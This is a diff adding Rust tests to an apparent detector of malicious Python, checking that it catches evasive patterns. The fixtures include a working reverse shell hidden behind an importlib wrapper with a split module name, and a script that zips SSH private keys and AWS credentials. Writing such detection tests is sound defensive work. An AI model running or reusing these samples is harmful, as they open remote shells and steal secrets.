@@ -1187,3 +1187,67 @@ fn every_file_under_the_home_folder_overwritten_or_deleted() {
     let log = "import os\nfor top, _, names in os.walk(os.path.expanduser('~')):\n    with open(os.path.join(top, 'seen.log'), 'a') as fh:\n        fh.write(top)\n";
     assert!(!kinds(log).contains(&K::Destruction), "{:?}", details(log));
 }
+
+#[test]
+fn modules_reached_through_an_import_wrapper() {
+    // A helper that returns `importlib.import_module(name)`: its calls import the module
+    // they name, so `load("socket")` is `socket` and the shell behind it is seen.
+    let src = r#"
+import importlib
+
+def load(which):
+    return importlib.import_module(which)
+
+def check(addr):
+    conn = getattr(load("soc" + "ket"), "create_connection")((addr, 9001))
+    osm = load("os")
+    for n in (0, 1, 2):
+        osm.dup2(conn.fileno(), n)
+    load("pty").spawn("/bin/bash")
+"#;
+    let d = details(src);
+    assert!(kinds(src).contains(&K::ReverseShell), "{d:?}");
+    // A wrapper that does something else with its parameter is not an import.
+    let plain = "def load(which):\n    return open(which)\n\nload('os').system('id')\n";
+    assert!(
+        !details(plain).iter().any(|x| x.contains("os.system")),
+        "{:?}",
+        details(plain)
+    );
+}
+
+#[test]
+fn loops_over_named_collections_of_credential_paths() {
+    // The paths sit in a module-level mapping; the loop meets them through `.items()` and
+    // `map(expanduser, ...)`, as it would meet them written in the loop itself.
+    let src = r#"
+import os, zipfile
+STORES = {
+    "keys": ["~/.ssh/id_ed25519", "~/.ssh/id_rsa"],
+    "cloud": ["~/.aws/credentials"],
+}
+
+def pack(out):
+    with zipfile.ZipFile(out, "w") as z:
+        for label, paths in STORES.items():
+            for p in map(os.path.expanduser, paths):
+                for root, _, files in os.walk(p):
+                    z.write(root)
+"#;
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("SecretRead") && x.contains("SSH")),
+        "{d:?}"
+    );
+    // A mapping of ordinary folders is walked without alarm.
+    let plain = src
+        .replace("~/.ssh/id_ed25519", "docs")
+        .replace("~/.ssh/id_rsa", "src")
+        .replace("~/.aws/credentials", "build");
+    assert!(
+        !details(&plain).iter().any(|x| x.starts_with("SecretRead")),
+        "{:?}",
+        details(&plain)
+    );
+}
